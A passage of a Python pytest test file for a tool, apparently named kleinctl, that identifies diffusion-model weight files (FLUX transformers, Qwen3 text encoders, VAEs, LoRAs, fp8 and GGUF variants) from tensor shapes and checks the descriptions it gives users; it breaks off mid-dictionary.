"""What files are: right ones, mixed-up ones, broken ones, and the words a user reads about each."""

from __future__ import annotations

import hashlib
import json
import os
import re
import statistics
import struct
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kleinctl import documents
from kleinctl.header import read_safetensors
from kleinctl.identify import (
    Identity,
    LfsPointer,
    Lora,
    Signature,
    TextEncoder,
    Transformer,
    Vae,
    document,
    encoder_title,
    identify,
    places,
)
from kleinctl.manifest import Model, load
from tests import weights
from tests.conftest import REPOSITORY
from tests.weights import FLUX2_DEV, KLEIN_4B, KLEIN_9B, QWEN3_06B, QWEN3_4B, QWEN3_8B

jsonschema = pytest.importorskip("jsonschema")


@pytest.fixture(scope="module")
def models() -> list[Model]:
    names = ("klein-4b", "klein-base-4b", "klein-9b", "klein-base-9b")
    return [load(REPOSITORY / "manifests" / f"{name}.toml") for name in names]


def brief(found: Identity) -> tuple[str, str, str, str | None, str | None]:
    return found.kind, found.role, found.family, found.layout, found.dtype


def shard(shapes: weights.Shapes, word: str) -> dict[str, tuple[int, ...]]:
    return {name: shape for name, shape in shapes.items() if word in name}


TRANSFORMERS = {
    "flux-2-klein-4b": (weights.flux2(**KLEIN_4B), "flux2-klein-4b", "single-file"),
    "a checkpoint's prefix": (
        {f"model.diffusion_model.{name}": shape for name, shape in weights.flux2(**KLEIN_4B).items()},
        "flux2-klein-4b",
        "single-file",
    ),
    "diffusers klein 4B": (weights.flux2_diffusers(**KLEIN_4B), "flux2-klein-4b", "diffusers"),
    "klein 9B": (weights.flux2(**KLEIN_9B), "flux2-klein-9b", "single-file"),
    "diffusers klein 9B": (weights.flux2_diffusers(**KLEIN_9B), "flux2-klein-9b", "diffusers"),
    "9B, blocks only": (shard(weights.flux2_diffusers(**KLEIN_9B), "single_tr"), "flux2-klein-9b", "diffusers"),
    "9B, double only": (shard(weights.flux2_diffusers(**KLEIN_9B), ".ff."), "flux2-klein-9b", "diffusers"),
    "dev": (weights.flux2(**FLUX2_DEV), "flux2-dev", "single-file"),
    "a miniature": (weights.flux2_diffusers(160, 192, 2, 4, head=32), "flux2-other", "diffusers"),
    "a miniature for ComfyUI": (weights.flux2(256, 768, 1, 1), "flux2-other", "single-file"),
    "FLUX.1": (weights.flux1(), "flux1", "single-file"),
    "FLUX.1, blocks only": (shard(weights.flux1(), "single_blocks"), "flux1", "single-file"),
    "diffusers FLUX.1": (weights.flux1_diffusers(), "flux1", "diffusers"),
    "Chroma": ({**weights.flux1(), "distilled_guidance_layer.in_proj.weight": (5120, 64)}, "chroma", "single-file"),
    "Z-Image": ({"cap_embedder.1.weight": (3840, 2560), "x_embedder.weight": (3840, 64)}, "z-image", "single-file"),
    "diffusers Z-Image": (
        {"cap_embedder.1.weight": (3840, 2560), "all_x_embedder.2-1.weight": (3840, 64)},
        "z-image",
        "diffusers",
    ),
    "Qwen-Image": (
        {"txt_norm.weight": (3584,), "txt_in.weight": (3072, 3584), "img_in.weight": (3072, 64)},
        "qwen-image",
        "single-file",
    ),
    "diffusers Chroma": (
        {**weights.flux1_diffusers(), "distilled_guidance_layer.in_proj.weight": (5120, 64)},
        "chroma",
        "diffusers",
    ),
    "the least that tells": ({"txt_in.weight": (3072, 7680)}, "flux2-klein-4b", "single-file"),
    "cut down for a test": (weights.flux2(128, 7680, 1, 1), "flux2-klein-4b", "single-file"),
}


@pytest.mark.parametrize("name", TRANSFORMERS)
def test_transformers(tmp_path, name):
    shapes, family, layout = TRANSFORMERS[name]
    found = identify(weights.write(tmp_path / "weights.safetensors", shapes))
    assert brief(found) == ("safetensors", "transformer", family, layout, "bf16")
    assert isinstance(found.facts, Transformer)


TEXT_ENCODERS = {
    "qwen3-4b": weights.qwen3(**QWEN3_4B),
    "qwen3-8b": weights.qwen3(**QWEN3_8B),
    "qwen3-0.6b": weights.qwen3(**QWEN3_06B),
    "qwen3-other": weights.qwen3(64, 128, 2, layers=28, kv=1, vocabulary=2048, head=32),
    "qwen3-vl": weights.qwen3_vl(),
    "qwen2.5-vl": {
        "visual.patch_embed.proj.weight": (1280, 3, 2, 14, 14),
        "model.layers.0.mlp.gate_proj.weight": (18944, 3584),
    },
    "qwen2": {"model.layers.0.self_attn.q_proj.bias": (2048,), "model.embed_tokens.weight": (151936, 2048)},
    "gemma": {
        "model.layers.0.pre_feedforward_layernorm.weight": (2304,),
        "model.layers.0.self_attn.q_norm.weight": (256,),
    },
    "mistral-small": weights.mistral(),
    "ministral": {
        "model.layers.0.post_attention_layernorm.weight": (3072,),
        "model.embed_tokens.weight": (131072, 3072),
    },
    "qwen3-1.7b": weights.qwen3(2048, 6144, 16, layers=28),
    "llama3-8b": {"model.layers.0.mlp.gate_proj.weight": (14336, 4096)},
    "t5-xxl": weights.t5(),
    "umt5-xxl": weights.t5(256384),
    "clip-l": weights.clip(768, 3072, 12),
    "clip-g": weights.clip(1280, 5120, 32),
}


@pytest.mark.parametrize("family", TEXT_ENCODERS)
def test_text_encoders(tmp_path, family):
    found = identify(weights.write(tmp_path / "some_encoder.safetensors", TEXT_ENCODERS[family]))
    assert brief(found) == ("safetensors", "text-encoder", family, "single-file", "bf16")


@pytest.mark.parametrize("layers", [range(20), range(20, 36)])
def test_each_shard_of_a_text_encoder(tmp_path, layers):
    whole = weights.qwen3(**QWEN3_4B)
    part = {name: shape for name, shape in whole.items() if any(f".layers.{n}." in name for n in layers)}
    found = identify(weights.write(tmp_path / "model-00002-of-00002.safetensors", part))
    assert brief(found) == ("safetensors", "text-encoder", "qwen3-4b", "diffusers", "bf16")
    assert found.saw == f"2560 wide, query norm: Qwen3 4B; {len(layers)} layers; shard 2 of 2"
    assert isinstance(found.facts, TextEncoder) and found.facts.width == 2560


def test_the_shard_of_qwen3_8b_that_holds_little_but_the_output(tmp_path):
    found = identify(weights.write(tmp_path / "model-00004-of-00004.safetensors", {"lm_head.weight": (151936, 4096)}))
    assert (found.family, found.facts.width) == ("qwen3-8b", 4096)


VAES = {
    "FLUX.2": (weights.vae(), "flux2-vae", "single-file", "32 latent channels, batch-norm statistics: FLUX.2 VAE"),
    "FLUX.2, diffusers": (
        weights.vae_diffusers(),
        "flux2-vae",
        "diffusers",
        "32 latent channels, batch-norm statistics: FLUX.2 VAE",
    ),
    "small decoder": (
        weights.vae(width=96),
        "flux2-vae",
        "single-file",
        "32 latent channels, batch-norm statistics: FLUX.2 VAE; small decoder",
    ),
    "decoder only": (
        weights.vae(encoder=False),
        "flux2-vae",
        "single-file",
        "32 latent channels, batch-norm statistics: FLUX.2 VAE; decoder only, so it cannot read pictures for an edit",
    ),
    "no statistics": (
        weights.vae(statistics=False),
        "flux2-vae",
        "single-file",
        "32 latent channels but no batch-norm statistics: an incomplete FLUX.2 VAE",
    ),
    "a miniature": (
        weights.vae_diffusers(width=16),
        "flux2-vae",
        "diffusers",
        "32 latent channels, batch-norm statistics: FLUX.2 VAE",
    ),
    "FLUX.1's ae.safetensors": (
        weights.vae(16, statistics=False),
        "flux1-vae",
        "single-file",
        "16 latent channels: FLUX.1 VAE (SD3 and Z-Image have its like)",
    ),
    "SDXL": (
        weights.vae(4, statistics=False),
        "sd-vae",
        "single-file",
        "4 latent channels: Stable Diffusion VAE (1.5 and SDXL look alike)",
    ),
    "Wan": (
        {"decoder.middle.0.residual.0.gamma": (384, 1, 1, 1), "decoder.conv1.weight": (384, 16, 3, 3, 3)},
        "wan-vae",
        "single-file",
        "16 latent channels, 3-D convolutions: Wan 2.1 or Qwen-Image VAE; "
        "decoder only, so it cannot read pictures for an edit",
    ),
    "Qwen-Image, diffusers": (
        weights.vae_diffusers(16, statistics=False, first=(3, 3, 3)),
        "wan-vae",
        "diffusers",
        "16 latent channels, 3-D convolutions: Wan 2.1 or Qwen-Image VAE",
    ),
    "Wan 2.2": (
        {"decoder.middle.0.residual.0.gamma": (1024, 1, 1, 1), "decoder.conv1.weight": (1024, 48, 3, 3, 3)},
        "wan22-vae",
        "single-file",
        "48 latent channels, 3-D convolutions: Wan 2.2 VAE; decoder only, so it cannot read pictures for an edit",
    ),
    "TAEF2": (
        {"decoder.layers.0.weight": (64, 32, 3, 3), "decoder.layers.2.conv.0.weight": (64, 64, 3, 3)}
        | {"encoder.layers.0.weight": (64, 3, 3, 3)},
        "flux2-tiny-vae",
        "diffusers",
        "32 latent channels, convolutions 64 wide: TAEF2, a tiny autoencoder for FLUX.2",
    ),
    "taesd_decoder": (
        {"1.weight": (64, 4, 3, 3), "3.conv.0.weight": (64, 64, 3, 3)},
        "tiny-vae",
        "single-file",
        "4 latent channels, convolutions 64 wide: TAESD, a tiny autoencoder; "
        "decoder only, so it cannot read pictures for an edit",
    ),
    "LTX-Video": (
        {"decoder.conv_in.conv.weight": (512, 128, 3, 3, 3), "encoder.conv_in.conv.weight": (128, 48, 3, 3, 3)},
        "unknown",
        "single-file",
        "128 latent channels, causal 3-D convolutions: a video VAE, not known",
    ),
    "HunyuanVideo": (
        {"decoder.conv_in.conv.weight": (512, 16, 3, 3, 3), "encoder.conv_in.conv.weight": (128, 3, 3, 3, 3)},
        "unknown",
        "single-file",
        "16 latent channels, causal 3-D convolutions: a video VAE, not known",
    ),
    "DC-AE": (
        {
            "decoder.conv_in.weight": (1024, 32, 3, 3),
            "decoder.up_blocks.0.0.conv.weight": (512, 256, 3, 3),
            "encoder.conv_in.weight": (128, 3, 3, 3),
        },
        "dc-ae",
        "diffusers",
        "32 latent channels, DC-AE blocks: a DC-AE autoencoder",
    ),
    "unknown": (
        {"decoder.conv_in.weight": (512, 24, 3, 3), "encoder.conv_in.weight": (128, 3, 3, 3)},
        "unknown",
        "single-file",
        "24 latent channels: a VAE, of which model is not known",
    ),
}


@pytest.mark.parametrize("name", VAES)
def test_vaes(tmp_path, name):
    shapes, family, layout, saw = VAES[name]
    found = identify(weights.write(tmp_path / "vae.safetensors", shapes, "F32"))
    assert brief(found) == ("safetensors", "vae", family, layout, "fp32")
    assert found.saw == saw


def test_what_pairing_needs_of_a_vae(tmp_path):
    facts = [
        identify(weights.write(tmp_path / f"{n}.safetensors", shapes)).facts
        for n, shapes in enumerate((weights.vae(), weights.vae(16, False), weights.vae(encoder=False, width=96)))
    ]
    assert all(isinstance(vae, Vae) for vae in facts)
    assert [(vae.latent_channels, vae.decoder_width, vae.statistics, vae.encoder) for vae in facts] == [
        (32, 512, True, True),
        (16, 512, False, True),
        (32, 384, True, False),
    ]


def test_what_pairing_needs_of_a_transformer_and_a_text_encoder(tmp_path, models):
    transformer = identify(weights.write(tmp_path / "t.safetensors", weights.flux2(**KLEIN_4B)), models).facts
    encoder = identify(weights.write(tmp_path / "e.safetensors", weights.qwen3(**QWEN3_8B)), models).facts
    assert isinstance(transformer, Transformer) and isinstance(encoder, TextEncoder)
    assert (transformer.model, transformer.text_width, transformer.image_channels) == ("klein-4b", 7680, 128)
    assert (transformer.double_blocks, transformer.single_blocks) == (5, 20)
    assert (encoder.title, encoder_title(transformer.text_width // 3)) == (
        "Qwen3 8B (4096 wide)",
        "Qwen3 4B (2560 wide)",
    )


SAID = {
    "FLUX.1 dev": (weights.flux1(), "text input 4096 wide, a guidance input: FLUX.1 dev or its kin; 19 + 38 blocks"),
    "FLUX.1 schnell": (
        {name: shape for name, shape in weights.flux1().items() if "guidance" not in name},
        "text input 4096 wide, no guidance input: FLUX.1 schnell or its kin; 19 + 38 blocks",
    ),
    "FLUX.1 Fill": (
        {**weights.flux1(), "img_in.weight": (3072, 384)},
        "text input 4096 wide, image input 384: FLUX.1 Fill; 19 + 38 blocks",
    ),
    "FLUX.1 Depth": (
        {**weights.flux1(), "img_in.weight": (3072, 128)},
        "text input 4096 wide, image input 128: FLUX.1 Depth or Canny; 19 + 38 blocks",
    ),
    "Wan 2.2": (
        {"head.modulation": (1, 2, 3072), "patch_embedding.weight": (3072, 48, 1, 2, 2)},
        "video blocks, blocks 3072 wide, image input 48: Wan 2.2 5B",
    ),
    "diffusers Wan": (
        {
            "condition_embedder.text_embedder.linear_1.weight": (5120, 4096),
            "blocks.0.attn2.to_k.weight": (5120, 5120),
        },
        "video blocks 5120 wide, text input 4096 wide: Wan",
    ),
    "SD3": (
        {"joint_blocks.0.x_block.attn.qkv.weight": (4608, 1536)},
        "joint blocks 1536 wide: Stable Diffusion 3",
    ),
    "diffusers SD3": (
        {"pos_embed.pos_embed": (1, 36864, 1536), "context_embedder.weight": (1536, 4096)},
        "joint blocks 1536 wide, text input 4096 wide: Stable Diffusion 3",
    ),
    "diffusers SDXL": (
        {"add_embedding.linear_1.weight": (1280, 2816), "down_blocks.0.resnets.0.conv1.weight": (320, 320, 3, 3)},
        "a UNet with SDXL's size conditioning: SDXL",
    ),
    "diffusers SD1.5": (
        {"down_blocks.1.attentions.0.transformer_blocks.0.attn2.to_k.weight": (640, 768)},
        "a UNet with text input 768 wide: Stable Diffusion 1.5",
    ),
    "a ControlNet": ({"input_hint_block.0.weight": (16, 3, 3, 3)}, "a ControlNet: it steers a model and is none"),
    "Qwen3-VL 8B": (
        {
            "model.visual.patch_embed.proj.weight": (1152, 3, 2, 16, 16),
            "model.layers.0.self_attn.q_norm.weight": (128,),
            "model.layers.0.post_attention_layernorm.weight": (4096,),
        },
        "a vision tower and query norms, 4096 wide: Qwen3-VL 8B; 1 layer",
    ),
    "Qwen2.5-VL 7B": (
        {
            "visual.patch_embed.proj.weight": (1280, 3, 2, 14, 14),
            "model.layers.0.self_attn.q_proj.bias": (3584,),
            "model.embed_tokens.weight": (152064, 3584),
        },
        "a vision tower and query biases, 3584 wide: Qwen2.5-VL 7B; 1 layer",
    ),
    "Gemma 2": (
        {"model.layers.0.pre_feedforward_layernorm.weight": (2304,)},
        "2304 wide, norms around the MLP: Gemma 2 2B",
    ),
}


@pytest.mark.parametrize("name", SAID)
def test_what_is_said_of_other_models(tmp_path, name):
    shapes, saw = SAID[name]
    assert identify(weights.write(tmp_path / "file.safetensors", shapes)).saw == saw


def test_blocks_that_are_missing_from_a_file_that_is_no_shard(tmp_path):
    whole = weights.flux2(**KLEIN_4B)
    some = {name: shape for name, shape in whole.items() if not name.startswith(("double_blocks.3", "double_blocks.4"))}
    found = identify(weights.write(tmp_path / "flux-2-klein-4b.safetensors", some))
    assert found.family == "flux2-klein-4b" and found.facts.missing == "3 of 5 double blocks"
    assert "; incomplete: only 3 of 5 double blocks, and its name says nothing of shards" in found.saw
    shard = identify(weights.write(tmp_path / "model-00001-of-00002.safetensors", some))
    assert "incomplete" not in shard.saw and shard.facts.missing == ""
    encoder = {name: shape for name, shape in weights.qwen3(**QWEN3_4B).items() if ".layers.20." not in name}
    found = identify(weights.write(tmp_path / "qwen_3_4b.safetensors", encoder))
    assert found.facts.missing == "35 of 36 layers"


def test_base_distilled_and_kv_are_not_guessed(tmp_path):
    words = "base and distilled have the same tensors; only the sha256 tells"
    found = identify(weights.write(tmp_path / "flux-2-klein-9b-kv.safetensors", weights.flux2(**KLEIN_9B)))
    assert found.saw.endswith(f"8 + 24 blocks; {words}; the name says KV; tensors cannot tell")
    found = identify(weights.write(tmp_path / "kvasir.safetensors", weights.flux2(**KLEIN_4B)))
    assert found.saw.endswith(f"5 + 20 blocks; {words}") and found.sure == "header"


def test_a_gguf_file_whose_axes_are_in_the_other_order(tmp_path):
    turned = {name: shape[::-1] for name, shape in weights.flux2(**KLEIN_4B).items()}
    found = identify(weights.write_gguf(tmp_path / "klein.gguf", turned, "flux"))
    assert (found.family, found.facts.text_width, found.facts.double_blocks) == ("flux2-klein-4b", 7680, 5)


def test_a_whole_sdxl_checkpoint_is_no_transformer(tmp_path):
    shapes = {
        "model.diffusion_model.input_blocks.0.0.weight": (320, 4, 3, 3),
        "model.diffusion_model.label_emb.0.0.weight": (1280, 2816),
        "first_stage_model.decoder.conv_in.weight": (512, 4, 3, 3),
    }
    found = identify(weights.write(tmp_path / "sd_xl_base_1.0.safetensors", shapes, "F16"))
    assert brief(found) == ("safetensors", "unknown", "sdxl", "single-file", "fp16")
    assert (
        found.saw
        == "a UNet with SDXL's size conditioning: SDXL; a whole checkpoint, with more than this one part in it"
    )


def test_an_upscaler(tmp_path):
    shapes = {"conv_first.weight": (64, 3, 3, 3), "body.0.rdb1.conv1.weight": (32, 64, 3, 3)}
    found = identify(weights.write(tmp_path / "4x.safetensors", {f"params_ema.{k}": v for k, v in shapes.items()}))
    assert (found.role, found.saw) == ("upscaler", "dense residual blocks: ESRGAN upscaler")


def test_what_is_not_known_stays_unknown_and_shows_its_largest_shapes(tmp_path):
    found = identify(weights.write(tmp_path / "new.safetensors", {"a.weight": (7, 9), "b.bias": (9,)}))
    assert brief(found) == ("safetensors", "unknown", "unknown", None, "bf16")
    assert found.saw == "2 tensors of a model that is not known here; the largest: a.weight [7, 9], b.bias [9]"


# fp8 and fp4


def quantized(scale: str = "weight_scale") -> dict[str, tuple[int, ...]]:
    shapes: dict[str, tuple[int, ...]] = {}
    for name, shape in weights.flux2(**KLEIN_4B).items():
        shapes[name] = shape
        if "_blocks" in name and len(shape) == 2:
            shapes[name.replace("weight", scale)] = ()
    return shapes


def test_the_official_fp8_file(tmp_path):
    metadata = {"_quantization_metadata": json.dumps({"format_version": "1.0"})}
    path = weights.write(tmp_path / "fp8.safetensors", quantized(), "F8_E4M3", metadata, weight_scale="F32")
    found = identify(path)
    assert brief(found) == ("safetensors", "transformer", "flux2-klein-4b", "single-file", "fp8")
    assert found.facts.scales == "metadata"


@pytest.mark.parametrize(
    ("scale", "extra", "scales"),
    [
        ("weight_scale", {"double_blocks.0.img_attn.qkv.comfy_quant": (30,)}, "comfy_quant"),
        ("scale_weight", {"scaled_fp8": (0,)}, "scaled_fp8"),
        ("weight_scale", {}, "unmarked"),
    ],
)
def test_how_fp8_scales_are_announced(tmp_path, scale, extra, scales):
    shapes = {**quantized(scale), **extra}
    found = identify(
        weights.write(tmp_path / "fp8.safetensors", shapes, "F8_E4M3", **{scale: "F32", "comfy_quant": "U8"})
    )
    assert found.facts.scales == scales
    assert ("its scales are not announced, and ComfyUI would ignore them" in found.saw) == (scales == "unmarked")


@pytest.mark.parametrize(
    ("scale", "scaled_by", "words"),
    [
        ((), "tensor", "per tensor"),
        ((1,), "tensor", "per tensor"),
        ((0,), "row", "per row"),
        ((4, 8), "block", "per block"),
    ],
)
def test_what_an_fp8_scale_is_for(tmp_path, scale, scaled_by, words):
    shapes = {**weights.scaled(weights.flux2(**KLEIN_4B), scale), "img_in.comfy_quant": (30,)}
    path = weights.write(tmp_path / "fp8.safetensors", shapes, "F8_E4M3", weight_scale="F32", comfy_quant="U8")
    found = identify(path)
    assert found.facts.scaled_by == scaled_by and f"fp8 with a scale {words}" in found.saw


def test_t5_in_fp8_without_scales(tmp_path):
    found = identify(weights.write(tmp_path / "t5xxl_fp8_e4m3fn.safetensors", weights.t5(), "F8_E4M3"))
    assert (found.family, found.dtype) == ("t5-xxl", "fp8") and found.saw.endswith("24 layers; fp8 without scales")


@pytest.mark.parametrize(("extra", "dtype"), [("wscales", "svdq-int4"), ("wcscales", "svdq-fp4")])
def test_an_svdquant_file(tmp_path, extra, dtype):
    shapes = {"context_embedder.weight": (3072, 4096), "time_text_embed.text_embedder.linear_1.weight": (3072, 768)}
    for n in range(19):
        at = f"transformer_blocks.{n}.mlp_fc1"
        shapes |= {f"{at}.qweight": (12288, 1536), f"{at}.{extra}": (48, 12288), f"{at}.lora_down": (3072, 32)}
    found = identify(weights.write(tmp_path / "svdq.safetensors", shapes, "BF16", qweight="I8"))
    assert brief(found) == ("safetensors", "transformer", "flux1", "diffusers", dtype)
    assert "by SVDQuant, which needs nunchaku" in found.saw


def test_an_nvfp4_file_whose_weights_lie_two_to_a_byte(tmp_path):
    h = 3072
    shapes = {
        "single_blocks.0.linear1.weight": (9 * h, h // 2),
        "single_blocks.0.linear1.weight_scale": (9 * h, h // 16),
    }
    found = identify(weights.write(tmp_path / "fp4.safetensors", shapes, "U8", weight_scale="F8_E4M3"))
    assert brief(found)[2:] == ("flux2-klein-4b", "single-file", "nvfp4")


# GGUF


def test_gguf_files(tmp_path):
    transformer = weights.write_gguf(tmp_path / "flux-2-klein-4b-Q8_0.gguf", weights.flux2(**KLEIN_4B), "flux")
    assert brief(identify(transformer)) == ("gguf", "transformer", "flux2-klein-4b", "single-file", "Q8_0")
    names = {"token_embd.weight": (151936, 2560)}
    for n in range(36):
        names |= {f"blk.{n}.attn_q_norm.weight": (128,), f"blk.{n}.ffn_gate.weight": (9728, 2560)}
    encoder = weights.write_gguf(tmp_path / "Qwen3-4B-Q4_K_M.gguf", names, "qwen3", kind=12, words=1000)
    assert brief(identify(encoder)) == ("gguf", "text-encoder", "qwen3-4b", "single-file", "Q4_K")
    vision = weights.write_gguf(tmp_path / "Qwen3-VL-4B.gguf", names, "qwen3vl", kind=12)
    assert identify(vision).family == "qwen3-vl"
    t5 = {"token_embd.weight": (32128, 4096), "enc.blk.0.ffn_up.weight": (10240, 4096)}
    assert identify(weights.write_gguf(tmp_path / "t5.gguf", t5, "t5encoder")).family == "t5-xxl"


def test_a_gguf_file_cut_short(tmp_path):
    found = identify(weights.write_gguf(tmp_path / "a.gguf", weights.flux2(**KLEIN_4B), "flux", missing=4096))
    assert brief(found)[:3] == ("truncated", "transformer", "flux2-klein-4b")
    assert "cut short: 4,096 of 4," in found.saw


# LoRA

FLUX1_ATTENTION = {f"double_blocks.{n}.img_attn.qkv.weight": (9216, 3072) for n in range(19)}
LORAS = {
    "klein 4B, all layers": (weights.matrices(weights.flux2(**KLEIN_4B), "_blocks"), "peft", "flux2-klein-4b"),
    "klein 4B by kohya": (weights.matrices(weights.flux2(**KLEIN_4B), "_blocks"), "kohya", "flux2-klein-4b"),
    "klein 4B, attention only": (weights.matrices(weights.flux2(**KLEIN_4B), "img_attn"), "kohya", "flux2-klein-4b"),
    "klein 4B, few layers": (
        weights.matrices(weights.flux2(**KLEIN_4B), "single_blocks.3.linear1"),
        "peft",
        "flux2-klein-4b",
    ),
    "klein 4B, MLP": (weights.matrices(weights.flux2(**KLEIN_4B), "blocks.1.img_mlp"), "kohya", "flux2-klein-4b"),
    "klein 9B": (weights.matrices(weights.flux2(**KLEIN_9B), "_blocks"), "kohya", "flux2-klein-9b"),
    "klein 9B, attention": (weights.matrices(weights.flux2(**KLEIN_9B), "blocks.2.img_attn"), "peft", "flux2-klein-9b"),
    "dev": (weights.matrices(weights.flux2(**FLUX2_DEV), "single_blocks"), "peft", "flux2-dev"),
    "FLUX.1": (weights.matrices(weights.flux1(), "_blocks"), "kohya", "flux1"),
    "FLUX.1, attention only": (FLUX1_ATTENTION, "peft", "flux1"),
    "FLUX.1, single blocks": (weights.matrices(weights.flux1(), "blocks.0.linear"), "peft", "flux1"),
    "as wide in both": (weights.matrices(weights.flux2(**KLEIN_4B), "blocks.1.img_attn"), "peft", "unknown"),
    "SDXL": (
        {name: shape for name, shape in weights.unet(2048).items() if ".attn" in name and len(shape) == 2},
        "kohya",
        "sdxl",
    ),
    "SD1.5": ({"unet.mid_block.attentions.0.transformer_blocks.0.attn2.to_k": (1280, 768)}, "peft", "sd15"),
    "Qwen-Image": (
        {f"transformer_blocks.{n}.img_mlp.net.0.proj.weight": (12288, 3072) for n in range(60)},
        "peft",
        "qwen-image",
    ),
    "Qwen-Image, attention only": (
        {f"transformer_blocks.{n}.attn.to_q.weight": (3072, 3072) for n in range(60)},
        "peft",
        "unknown",
    ),
    "FLUX.1 by diffusers": (
        {"single_transformer_blocks.3.attn.to_q.weight": (3072, 3072)},
        "peft",
        "flux1",
    ),
    "HunyuanVideo": ({"double_blocks.3.img_mlp.fc1.weight": (12288, 3072)}, "kohya", "hunyuan-video"),
    "Wan": ({"blocks.3.cross_attn.k.weight": (5120, 5120)}, "peft", "wan"),
    "as wide as klein 9B": ({"transformer_blocks.3.attn1.to_q.weight": (4096, 4096)}, "peft", "unknown"),
    "Stable Diffusion": (
        {"unet.down_blocks.1.attentions.0.transformer_blocks.4.attn1.to_q": (640, 640)},
        "peft",
        "unknown",
    ),
}


@pytest.mark.parametrize("name", LORAS)
def test_loras(tmp_path, name):
    layers, style, family = LORAS[name]
    found = identify(weights.write(tmp_path / "style.safetensors", weights.lora(layers, 16, style), "F16"))
    assert (found.role, found.family, found.facts.rank) == ("lora", family, 16)


def test_what_is_said_of_loras(tmp_path):
    def saw(layers: weights.Shapes) -> str:
        return identify(weights.write(tmp_path / "a.safetensors", weights.lora(layers, 8))).saw

    assert saw(LORAS["klein 9B"][0]) == (
        "4096 wide, double blocks up to 7, single blocks up to 23: LoRA of rank 8 for FLUX.2 [klein] 9B"
    )
    assert saw(LORAS["as wide in both"][0]) == (
        "3072 wide, double blocks up to 1: LoRA of rank 8 for FLUX.1 or FLUX.2 [klein] 4B "
        "(the layers it changes are as wide in both)"
    )
    assert saw(LORAS["Stable Diffusion"][0]) == "LoRA of rank 8 for a model that is not known here"


def test_a_flux1_lora_partly_fits_klein_4b_and_that_is_said(tmp_path):
    found = identify(weights.write(tmp_path / "a.safetensors", weights.lora(LORAS["FLUX.1"][0], 8, "kohya")))
    assert found.saw == (
        "3072 wide, double blocks up to 18, single blocks up to 37: LoRA of rank 8 for FLUX.1; "
        "some of its layers are as wide in FLUX.2 [klein] 4B, where it would partly fit"
    )


@pytest.mark.parametrize(
    ("names", "format", "dora", "saw"),
    [
        ({"lora_A.weight": (8, 3072), "lora_B.weight": (9 * 3072, 8)}, "peft", False, "LoRA of rank 8"),
        ({"lora_down.weight": (8, 3072), "lora_up.weight": (9 * 3072, 8)}, "kohya", False, "LoRA of rank 8"),
        ({"lora.down.weight": (8, 3072), "lora.up.weight": (9 * 3072, 8)}, "diffusers", False, "LoRA of rank 8"),
        (
            {"lora_A.weight": (8, 3072), "lora_B.weight": (9 * 3072, 8), "lora_magnitude_vector": (9 * 3072,)},
            "peft",
            True,
            "DoRA of rank 8",
        ),
        (
            {"lora_down.weight": (8, 3072), "lora_up.weight": (9 * 3072, 8), "dora_scale": (9 * 3072, 1)},
            "kohya",
            True,
            "DoRA of rank 8",
        ),
        (
            {"hada_w1_a": (9 * 3072, 8), "hada_w1_b": (8, 3072), "hada_w2_a": (9 * 3072, 8), "hada_w2_b": (8, 3072)},
            "loha",
            False,
            "LoHa of rank 8",
        ),
        ({"lokr_w1": (8, 8), "lokr_w2": (9 * 384, 384)}, "lokr", False, "LoKr"),
    ],
)
def test_the_formats_of_adapters(tmp_path, names, format, dora, saw):
    shapes = {f"diffusion_model.single_blocks.3.linear1.{end}": shape for end, shape in names.items()}
    found = identify(weights.write(tmp_path / "a.safetensors", shapes))
    assert (found.family, found.facts.format, found.facts.dora) == ("flux2-klein-4b", format, dora)
    assert found.saw == f"3072 wide, single blocks up to 3: {saw} for FLUX.2 [klein] 4B"


def test_an_adapter_by_xlabs(tmp_path):
    shapes = {}
    for n in range(19):
        at = f"double_blocks.{n}.processor.qkv_lora1"
        shapes |= {f"{at}.down.weight": (16, 3072), f"{at}.up.weight": (9216, 16)}
    found = identify(weights.write(tmp_path / "a.safetensors", shapes))
    assert (found.role, found.family, found.facts.format, found.facts.rank) == ("lora", "flux1", "xlabs", 16)


def test_a_lora_that_fits_two_models_names_both(tmp_path):
    found = identify(weights.write(tmp_path / "a.safetensors", weights.lora(LORAS["as wide in both"][0])))
    assert (found.family, found.facts.candidates) == ("unknown", ("flux1", "flux2-klein-4b"))
    only = identify(weights.write(tmp_path / "b.safetensors", weights.lora(LORAS["Qwen-Image, attention only"][0])))
    assert only.facts.candidates == () and only.saw.endswith("LoRA of rank 16 for a model that is not known here")


def test_a_whole_clip_is_a_text_encoder_and_its_vision_tower_alone_is_none(tmp_path):
    vision = {"vision_model.encoder.layers.0.mlp.fc1.weight": (4096, 1024), "visual_projection.weight": (768, 1024)}
    whole = identify(weights.write(tmp_path / "clip.safetensors", {**weights.clip(768, 3072, 12), **vision}))
    assert (whole.role, whole.family) == ("text-encoder", "clip-l")
    tower = identify(weights.write(tmp_path / "clip_vision.safetensors", vision))
    assert (tower.role, tower.family) == ("unknown", "clip-vision")


def test_a_lora_saved_by_peft_with_the_adapters_name(tmp_path):
    layers = weights.lora(weights.matrices(weights.flux2(**KLEIN_4B), "single_blocks.3.linear1"), 4)
    named = {name.replace(".weight", ".default.weight"): shape for name, shape in layers.items()}
    found = identify(weights.write(tmp_path / "a.safetensors", named))
    assert (found.family, found.facts.rank) == ("flux2-klein-4b", 4)


def test_a_lora_with_diffusers_names_and_one_of_two_factors_lokr(tmp_path):
    layers = weights.matrices(weights.flux2_diffusers(**KLEIN_4B), "_blocks")
    found = identify(weights.write(tmp_path / "a.safetensors", weights.lora(layers)))
    assert (found.family, found.layout) == ("flux2-klein-4b", "diffusers")
    lokr = {
        "lycoris_single_blocks_0_linear1.lokr_w1": (8, 8),
        "lycoris_single_blocks_0_linear1.lokr_w2_a": (9 * 4096 // 8, 4),
        "lycoris_single_blocks_0_linear1.lokr_w2_b": (4, 4096 // 8),
    }
    found = identify(weights.write(tmp_path / "b.safetensors", lokr))
    assert found.facts == Lora(
        tmp_path / "b.safetensors", "flux2-klein-9b", "single-file", "bf16", None, 4096, None, 0, "lokr"
    )
    assert found.saw == "4096 wide, single blocks up to 0: LoKr for FLUX.2 [klein] 9B"


# What is there instead of weights

OID = hashlib.sha256(b"weights").hexdigest()
NOT_WEIGHTS = {
    "an empty file": (b"", "empty", "empty: 0 bytes"),
    "five bytes": (b"\1\2\3\4\5", "truncated", "5 bytes: too short for any weights file"),
    "a git-LFS pointer": (
        f"version https://git-lfs.github.com/spec/v1\noid sha256:{OID}\nsize 7751109744\n".encode(),
        "lfs-pointer",
        f"a git-LFS pointer to 7.75 GB, sha256 {OID[:12]}…",
    ),
    "a cut pointer": (
